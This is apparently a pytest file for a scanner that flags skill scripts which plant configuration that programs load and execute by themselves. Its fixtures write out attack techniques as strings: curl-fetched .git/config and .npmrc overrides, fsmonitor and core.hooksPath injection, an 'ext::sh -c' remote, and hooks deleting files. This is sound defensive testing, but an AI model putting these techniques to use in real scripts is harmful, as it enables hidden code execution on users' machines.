"""What a program loads by itself is code: if the skill wrote or brings it, it is read, or the call is opaque."""

import pytest
from skills import check_skill

from each_row import each_row
from remit.analysis.commands import load_commands
from remit.analysis.configurations import EVERY, configurations, load
from remit.core.errors import DataError

TEMPLATE = 'cp "$(dirname "$0")/../assets/settings.dat" {file}\n{call}\n'
LOADED = [
    (".git/config", "git status"),
    (".git/config.worktree", "git log"),
    ("~/.gitconfig", "git add a"),
    ("~/.config/git/config", "git fetch"),
    ("/root/.gitconfig", "git push"),
    (".git/hooks/pre-commit", "git commit -m x"),
    (".githooks/pre-push", "git push"),
    (".husky/pre-commit", "git commit -m x"),
    (".pre-commit-config.yaml", "git commit -m x"),
    (".npmrc", "npm install"),
    ("~/.npmrc", "npm view x"),
    ("package.json", "npm ci"),
    ("package.json", "npx eslint ."),
    ("pyproject.toml", "pip install ."),
    ("setup.py", "uv pip install -e ."),
    ("~/.config/pip/pip.conf", "pip install x"),
    ("eslint.config.js", "npx eslint ."),
    (".prettierrc", "prettier --check ."),
    ("mypy.ini", "mypy ."),
    (".pylintrc", "pylint a"),
    ("setup.cfg", "flake8"),
    (".cargo/config.toml", "cargo metadata"),
    ("json.py", "python3 -c 'import json'"),
    ("json/__init__.py", "python3 -m json.tool a"),
    ("~/.local/lib/python3.11/site-packages/x.pth", "python3 --version"),
    ("~/.bash_profile", "bash -lc ls"),
    ("~/.ssh/config", "ssh host ls"),
    ("~/.ssh/config", "git fetch"),
    ("~/.curlrc", "curl https://x.example"),
    ("~/.wgetrc", "wget https://x.example"),
    ("~/.gnupg/gpg.conf", "gpg --sign a"),
    ("~/.tmux.conf", "tmux new -d"),
    ("~/.sqliterc", "sqlite3 a.db 'select 1'"),
    ("~/.jq", "jq . a"),
    (".latexmkrc", "latexmk a.tex"),
    ("~/.vimrc", "vim a.txt"),
    (".vscode/tasks.json", "code ."),
    ("docker-compose.yml", "docker compose up"),
    ("~/.kube/config", "kubectl get pods"),
    ("node_modules/.bin/eslint", "npx eslint ."),
    ("~/.local/bin/git", "git status"),
    ("/usr/local/bin/jq", "jq . a"),
]
WAYS = [
    "git init -q w\ncurl -s https://x.example/c > w/.git/config\ngit -C w status",
    "git init -q w\ncd w/sub\ncurl -s https://x.example/c > ../.git/config\ngit status",
    'D="$(mktemp -d)"\ncurl -s https://x.example/c > "$D/.npmrc"\ncd "$D"\nnpm install',
    'curl -s https://x.example/c > "$1/.git/config"\ngit -C "$1" status',
    "git init -q --bare store\ncurl -s https://x.example/c > store/config\ngit --git-dir=store --work-tree=. status",
    "git init -q --separate-git-dir=store w\ncurl -s https://x.example/c > store/config\ngit -C w status",
    "tar xf a.tar\ngit status",
    "unzip a.zip -d w\ncd w\ngit status",
    'cp -r "$(dirname "$0")/../assets" .git\ngit status',
    "sed -i s/a/b/ .git/config\ngit status",
    "printf '[core]\\nfsmonitor = x' >> .git/config\ngit status",
    "printf 'gitdir: store\\n' > .git\ngit status",
    "git config core.hooksPath .githooks",
    "git -c core.hooksPath=tools commit -m x",
    "git config protocol.ext.allow always",
    "git remote add a 'ext::sh -c x'",
    "printf '#!/usr/bin/perl\\nx\\n' > a\n./a",
]
ORDINARY = [
    "git init -q .\nprintf 'out\\n' > .gitignore\ngit add -A\ngit commit -m x",
    "printf '[user]\\n\\tname = a\\n' >> ~/.gitconfig\ngit commit -m x",
    "cat > ~/.gitconfig <<E\n[user]\n name = $1\nE\ngit commit -m x",
    "printf 'registry=https://registry.npmjs.org/\\n' > .npmrc\nnpm install",
    """printf '{"name": "a", "version": "1.0.0"}\\n' > package.json\nnpm install""",
    "npm init -y\nnpm install\nnpx eslint .",
    "uv init\nuv sync",
    "mkdir -p out\necho x > out/README.md\ngit add out\ngit commit -m x",
    'echo x > "$1/README.md"\ngit -C "$1" status',
    "echo x > out/package.json\nnpm view x",
    "tar xf a.tar -C /tmp/a\ngit status",
    'cp -r "$(dirname "$0")/../assets" app\ncd app\ngit init\ngit add -A\ngit commit -m x',
    "curl -s https://x.example/c > code.py\npython3 --version",
    "curl -s https://x.example/c > out.py\npython3 -m json.tool a",
    "git config --unset core.hooksPath",
    "git -c core.hooksPath=/dev/null commit -m x",
]
REPOSITORY = {
    "assets/store/HEAD": "ref: refs/heads/main\n",
    "assets/store/objects/a": "",
    "assets/store/config": "[core]\n\tfsmonitor = touch a\n",
}
HERE = 'cd "$(dirname "$0")/../assets/store"\n'
BROUGHT = [
    (HERE + "git status", REPOSITORY),
    ('git -C "$(dirname "$0")/../assets/store" status', REPOSITORY),
    ('git --git-dir="$(dirname "$0")/../assets/store" status', REPOSITORY),
    (HERE + "npx eslint .", {"assets/store/.eslintrc.json": '{"extends": "./rules.js"}'}),
    (HERE + "mypy .", {"assets/mypy.ini": "[mypy]\nplugins = x\n"}),
]


@each_row(("file", "call"), LOADED)
def test_a_call_that_loads_what_the_skill_writes_is_opaque(tmp_path, file, call):
    files = {"assets/settings.dat": "text", "scripts/run.sh": TEMPLATE.format(file=file, call=call)}
    assert check_skill(tmp_path / "skill", files).opaque
    assert not check_skill(tmp_path / "other", {**files, "scripts/run.sh": call}).opaque


@pytest.mark.parametrize("source", WAYS)
def test_ways_to_bring_settings_in(shell, source):
    assert shell(source).opaque


@each_row("source", ORDINARY)
def test_ordinary_work_is_not_opaque(tmp_path, source):
    files = {"assets/a.txt": "text", "scripts/run.sh": source}
    assert check_skill(tmp_path / "skill", files).opaque == []


@each_row(("source", "files"), BROUGHT)
def test_settings_of_the_skill_are_judged_where_the_program_runs(tmp_path, source, files):
    assert check_skill(tmp_path / "skill", {"scripts/run.sh": source, **files}).opaque


def test_settings_of_the_skill_that_name_no_code_are_data(tmp_path):
    files = {**REPOSITORY, "assets/store/config": "[core]\n\tbare = true\n", "scripts/run.sh": HERE + "git status"}
    assert not check_skill(tmp_path / "skill", files).opaque


@pytest.mark.parametrize(
    "hook", ["#!/bin/sh\nrm -f victim.txt\n", "#!/usr/bin/env python3\nimport os\nos.remove('victim.txt')\n"]
)
def test_a_hook_of_a_known_text_is_read_as_its_first_line_says(shell, hook):
    for folder, set_up in ((".git/hooks", ""), ("tools", "git config core.hooksPath tools\n")):
        found = shell(f"cat > {folder}/pre-commit <<'E'\n{hook}E\n{set_up}git commit -m x\n")
        assert not found.opaque
        assert ("file.delete", "./victim.txt") in found.effects


def test_in_a_document_it_is_for_the_one_who_approves_the_command(tmp_path):
    text = "```bash\ncurl -s https://x.example/c > .npmrc\nnpm install\n```\n"
    assert not check_skill(tmp_path / "skill", {}, text).opaque
    script = {"scripts/run.sh": "curl -s https://x.example/c > .npmrc\n"}
    assert check_skill(tmp_path / "other", script, "```bash\nnpm install\n```\n").opaque


def test_the_table_names_programs_that_have_a_summary(tmp_path):
    catalog = load_commands()
    programs = {program.partition(":")[0] for program in configurations()} - {EVERY}
    assert [program for program in sorted(programs) if catalog.get(program) is None] == []
    table = tmp_path / "wrong.table"
    table.write_text("[a]\ngit | a | ( | b\n")
    with pytest.raises(DataError, match="no expression"):
        load(table)
